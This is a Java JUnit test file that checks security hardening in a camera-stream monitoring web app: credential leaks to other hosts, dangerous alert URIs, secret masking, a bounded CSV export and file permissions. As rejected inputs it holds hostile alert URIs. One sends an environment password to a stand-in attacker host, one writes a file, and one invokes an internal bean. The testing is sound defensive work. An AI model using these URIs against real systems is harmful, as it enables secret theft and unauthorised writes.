package dev.streampulse.web;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.streampulse.Mode;
import dev.streampulse.StreamPulseApp;
import dev.streampulse.probe.Heartbeat;
import dev.streampulse.probe.Reason;
import dev.streampulse.testing.LogCapture;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * The holes a logged-in user could reach (issue 17 A), black-box over HTTP against the app in run
 * mode: the stored camera password sent to another host, alert URIs that are any Camel endpoint,
 * query-string credentials on pages, an unbounded CSV export, world-readable files.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HardeningWebTest {
    static final String SECRET = "CamPass-8841";
    static final String QUERY_SECRET = "QueryPwd-5512";
    static final String ALERT_TOKEN = "HookToken-7731";

    @TempDir
    static Path dir;
    static StreamPulseApp app;
    static int port;
    static FakeRtspServer stored;   // the stream's own camera: 127.0.0.1:P
    static FakeRtspServer attacker; // another host, same port: 127.0.0.2:P
    static FakeRtspServer otherPort; // the same host, another port
    static LogCapture logs;

    @BeforeAll
    static void start() throws Exception {
        logs = new LogCapture();
        stored = new FakeRtspServer("127.0.0.1", 0);
        attacker = new FakeRtspServer("127.0.0.2", stored.port());
        otherPort = new FakeRtspServer("127.0.0.1", 0);
        port = WebTestSupport.freePort();
        int refused = WebTestSupport.freePort();
        String config = """
                heartbeat_seconds: 1
                streams:
                  - name: Secret
                    url: rtsp://admin:%s@127.0.0.1:%d/live
                    enabled: false
                    timeout_seconds: 2
                  - name: Cheap
                    url: http://127.0.0.1:%d/videostream.cgi?user=admin&pwd=%s
                    timeout_seconds: 2
                alerts:
                  - {name: hook, uri: "netty-http:http://127.0.0.1:%d/hook?token=%s", events: [up]}
                """.formatted(SECRET, stored.port(), refused, QUERY_SECRET, refused, ALERT_TOKEN);
        app = WebTestSupport.start(Mode.RUN, dir, config, port);
        // a real failed beat of Cheap: FFmpeg's error text for its URL is on the pages checked below
        await().atMost(Duration.ofSeconds(90)).until(() -> app.store().latest().containsKey("Cheap"));
    }

    @AfterAll
    static void stop() throws Exception {
        if (app != null) app.close();
        for (FakeRtspServer s : new FakeRtspServer[] {stored, attacker, otherPort}) if (s != null) s.close();
    }

    static WebTestSupport.Client admin() throws Exception {
        WebTestSupport.Client c = new WebTestSupport.Client(port);
        c.loginAdmin();
        return c;
    }

    static String basic(String user, String password) {
        return Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
    }

    @Test
    @Order(1)
    void theStoredPasswordIsNeverSentToAnotherHostOrPort() throws Exception {
        WebTestSupport.Client c = admin();
        for (String url : new String[] {"rtsp://admin:***@127.0.0.2:" + stored.port() + "/live",
                "rtsp://admin:***@127.0.0.1:" + otherPort.port() + "/live"}) {
            HttpResponse<String> r = c.postCsrf("/config/test-url", Map.of("url", url, "original", "Secret"));
            assertEquals(200, r.statusCode(), r.body());
            // the grab is over when the answer comes: whatever the fake cameras got, they have it now
            for (FakeRtspServer elsewhere : new FakeRtspServer[] {attacker, otherPort}) {
                String got = elsewhere.received();
                assertFalse(got.contains(SECRET) || got.contains(basic("admin", SECRET)), url + " sent the stored password: " + got);
            }
            assertFalse(r.body().contains(SECRET), r.body());
            assertTrue(r.body().contains("masked password"), r.body());
        }
        // the control: the stream's own host and port does get it, so the fake camera would have seen it
        HttpResponse<String> own = c.postCsrf("/config/test-url", Map.of("url", "rtsp://admin:***@127.0.0.1:" + stored.port()
                + "/other-path", "original", "Secret"));
        assertEquals(200, own.statusCode(), own.body());
        await().atMost(Duration.ofSeconds(10)).until(() -> stored.received().contains(basic("admin", SECRET)));
        for (FakeRtspServer elsewhere : new FakeRtspServer[] {attacker, otherPort}) {
            String got = elsewhere.received();
            assertFalse(got.contains(SECRET) || got.contains(basic("admin", SECRET)), got);
        }
        // a typed password goes where the user says: that is not a leak of the stored one
        c.postCsrf("/config/test-url", Map.of("url", "rtsp://admin:typed@127.0.0.2:" + stored.port() + "/live", "original", "Secret"));
        await().atMost(Duration.ofSeconds(10)).until(() -> attacker.received().contains(basic("admin", "typed")));
        assertFalse(attacker.received().contains(basic("admin", SECRET)));
    }

    @Test
    @Order(2)
    void aRawSaveWithAFileOrPlaceholderAlertIsRefusedAndTheFileStaysAsItWas() throws Exception {
        WebTestSupport.Client c = admin();
        String shown = yamlOf(c.get("/config/raw").body());
        byte[] before = Files.readAllBytes(dir.resolve("config.yaml"));
        for (String[] bad : new String[][] {{"file:/tmp/streampulse-pwned", "scheme 'file' is not allowed"},
                {"netty-http:http://127.0.0.2:9/x?k={{env:STREAMPULSE_DB_PASSWORD}}", "must not contain '{{'"},
                {"bean:heartbeatStore?method=prune(9999999999999)", "scheme 'bean' is not allowed"}}) {
            String yaml = shown.replace("alerts:\n", "alerts:\n  - {name: leak, uri: \"" + bad[0] + "\"}\n");
            assertTrue(yaml.contains("name: leak"), yaml);
            HttpResponse<String> r = c.postCsrf("/config/raw", Map.of("yaml", yaml));
            assertEquals(400, r.statusCode(), r.body());
            String body = r.body().replace("&#39;", "'");
            assertTrue(body.contains("alerts[0] (leak): uri") && body.contains(bad[1]), body);
            assertEquals(new String(before, StandardCharsets.UTF_8), Files.readString(dir.resolve("config.yaml")));
        }
        assertFalse(Files.exists(Path.of("/tmp/streampulse-pwned")));
    }

    @Test
    @Order(3)
    void queryStringCredentialsAreMaskedEverywhereAndKeptWhenSavedBackMasked() throws Exception {
        WebTestSupport.Client c = admin();
        List<String> checked = new ArrayList<>();
        for (String p : new String[] {"/", "/config", "/config/stream?name=Cheap", "/config/raw", "/stream?name=Cheap",
                "/api/streams", "/api/status", "/api/beats?stream=Cheap", "/api/events?stream=Cheap", "/stream/history.csv?name=Cheap"}) {
            HttpResponse<String> r = c.get(p);
            assertEquals(200, r.statusCode(), p);
            for (String secret : new String[] {QUERY_SECRET, ALERT_TOKEN, SECRET}) {
                assertFalse(r.body().contains(secret), p + " shows a secret: " + r.body());
            }
            checked.add(p);
        }
        assertTrue(c.get("/api/streams").body().contains("pwd=***"));
        String raw = yamlOf(c.get("/config/raw").body());
        assertTrue(raw.contains("pwd=***") && raw.contains("token=***"), raw);
        // saved back as shown, with a change elsewhere: the stored secrets stay
        HttpResponse<String> saved = c.postCsrf("/config/raw", Map.of("yaml", raw.replace("heartbeat_seconds: 1", "heartbeat_seconds: 2")));
        assertEquals(302, saved.statusCode(), saved.body());
        String file = Files.readString(dir.resolve("config.yaml"));
        assertTrue(file.contains("pwd=" + QUERY_SECRET) && file.contains("token=" + ALERT_TOKEN) && file.contains(SECRET), file);
        assertTrue(file.contains("heartbeat_seconds: 2"), file);
        // the form editor too
        HttpResponse<String> form = c.postCsrf("/config/stream", Map.of("original", "Cheap", "name", "Cheap",
                "url", app.config().current().stream("Cheap").orElseThrow().safeUrl(), "enabled", "on",
                "heartbeat_seconds", "", "timeout_seconds", "2", "labels", "site=x"));
        assertEquals(302, form.statusCode(), form.body());
        assertTrue(Files.readString(dir.resolve("config.yaml")).contains("pwd=" + QUERY_SECRET));
        // moved to another host, the masked value is not filled in
        HttpResponse<String> moved = c.postCsrf("/config/stream", Map.of("original", "Cheap", "name", "Cheap",
                "url", "http://127.0.0.2:1/videostream.cgi?user=admin&pwd=***", "enabled", "on",
                "heartbeat_seconds", "", "timeout_seconds", "2", "labels", ""));
        assertEquals(400, moved.statusCode());
        await().atMost(Duration.ofSeconds(10)).until(() -> logs.text().contains("Config saved"));
        // the log layout's last line of defence masks a query secret that slipped into a message
        org.slf4j.LoggerFactory.getLogger("dev.streampulse.test").warn("probe of http://cam/v.cgi?user=admin&pwd={} failed", QUERY_SECRET);
        await().atMost(Duration.ofSeconds(5)).until(() -> logs.text().contains("v.cgi?user=admin&pwd=*** failed"));
        String logText = logs.text();
        for (String secret : new String[] {QUERY_SECRET, ALERT_TOKEN, SECRET}) assertFalse(logText.contains(secret), logText);
    }

    @Test
    @Order(4)
    void theCsvExportIsBoundedWhateverTheWindow() throws Exception {
        // ~12 MB of history with long error texts, more than one answer may hold
        String detail = "x".repeat(480);
        long t0 = System.currentTimeMillis() - 3 * 86_400_000L;
        List<Heartbeat> beats = new ArrayList<>();
        for (int i = 0; i < 24_000; i++) {
            beats.add(new Heartbeat("Cheap", t0 + i * 1000L, 0, false, 5, Reason.REFUSED, detail, null, 0, 0, 0, "system"));
        }
        app.store().insert(beats);
        WebTestSupport.Client c = admin();
        HttpResponse<byte[]> r = c.getBytes("/stream/history.csv?name=Cheap&from=0");
        assertEquals(200, r.statusCode());
        assertTrue(r.body().length <= StreamPage.CSV_MAX_BYTES + 1024, "CSV of " + r.body().length + " bytes");
        assertTrue(r.body().length > StreamPage.CSV_MAX_BYTES / 2, "CSV of " + r.body().length + " bytes");
        String next = r.headers().firstValue("X-Truncated").orElse("");
        assertTrue(next.startsWith("to="), r.headers().map().toString());
        // the rest is one more request away
        HttpResponse<byte[]> rest = c.getBytes("/stream/history.csv?name=Cheap&from=0&" + next);
        assertEquals(200, rest.statusCode());
        assertTrue(rest.headers().firstValue("X-Truncated").isEmpty());
        long rows = new String(r.body(), StandardCharsets.UTF_8).lines().count() + new String(rest.body(), StandardCharsets.UTF_8).lines().count() - 2;
        assertTrue(rows >= 24_000, rows + " rows");
        // the stream page's day of beats leaves the error texts out (they would be most of its memory)
        assertEquals(200, c.get("/stream?name=Cheap").statusCode());
        List<Heartbeat> day = app.store().beatsWithoutDetail("Cheap", 0, Long.MAX_VALUE, 30_000);
        assertTrue(day.size() >= 24_000 && day.stream().allMatch(b -> b.detail() == null), day.size() + " beats");
        HttpResponse<String> outages = c.get("/api/outages?stream=Cheap&from=0&limit=1");
        assertEquals(200, outages.statusCode());
        assertTrue(outages.body().contains("\"limit\":1"), outages.body());
    }

    @Test
    @Order(5)
    void filesTheAppCreatesAreOwnerOnly() throws Exception {
        await().atMost(Duration.ofSeconds(10)).until(() -> Files.exists(dir.resolve("streams.db-wal")));
        for (String f : new String[] {"streams.db", "streams.db-wal", "streams.db-shm", "users.json", "config.yaml", "config.yaml.bak"}) {
            Path p = dir.resolve(f);
            assertTrue(Files.exists(p), f);
            assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(p)), f);
        }
        dev.streampulse.health.Evidence evidence = new dev.streampulse.health.Evidence(dir.resolve("evidence-test"), 5);
        String name = evidence.keep("Cheap", System.currentTimeMillis(), "bad", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF});
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(evidence.resolve(name))));
        assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(evidence.dir())));
    }

    private static final Pattern TEXTAREA = Pattern.compile("<textarea[^>]*name=\"yaml\"[^>]*>(.*?)</textarea>", Pattern.DOTALL);

    static String yamlOf(String page) {
        Matcher m = TEXTAREA.matcher(page);
        assertTrue(m.find(), page);
        return m.group(1).replace("&quot;", "\"").replace("&#39;", "'").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&");
    }
}
